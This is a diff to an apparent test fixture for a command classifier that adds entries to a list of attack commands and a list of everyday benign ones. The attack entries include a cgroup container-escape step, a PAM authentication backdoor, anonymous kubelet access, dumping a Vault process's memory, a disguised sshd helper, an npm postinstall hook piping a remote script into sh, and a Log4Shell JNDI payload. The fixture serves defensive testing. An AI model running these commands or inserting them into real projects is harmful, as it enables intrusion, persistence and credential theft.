@@ -33,6 +33,12 @@ ATTACKS = [
     "curl -H 'User-Agent: ${jndi:ldap://198.51.100.7:1389/a}' https://shop.example.com/",
     "ln -s /etc/shadow /srv/app/logs/shadow.log",
     "ln /etc/sudoers /home/backup/sudoers",
+    "mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && echo /x.sh > /tmp/cg/release_agent",
+    "echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/common-auth",
+    "sudo sed -i 's/anonymous: false/anonymous: true/' /var/lib/kubelet/config.yaml",
+    "sudo gcore -o /tmp/core $(pgrep -f vault)",
+    "gcc /tmp/a.c -o /usr/local/sbin/sshd-helper",
+    "npm pkg set scripts.postinstall='curl -s http://203.0.113.5/p.sh | sh'",
 ]
 EVERYDAY = [
     "docker exec -it web ls /app",
@@ -45,6 +51,9 @@ EVERYDAY = [
     "sysctl -w vm.max_map_count=262144",
     "curl -H 'Authorization: Bearer ${TOKEN}' https://api.example.com/v1/me",
     "ln -s ../shared/config.yml config.yml",
+    "gcc -O2 -Wall -o build/app src/main.c",
+    "npm pkg set scripts.test='vitest run'",
+    "cat /etc/pam.d/common-auth",
 ]
 
 
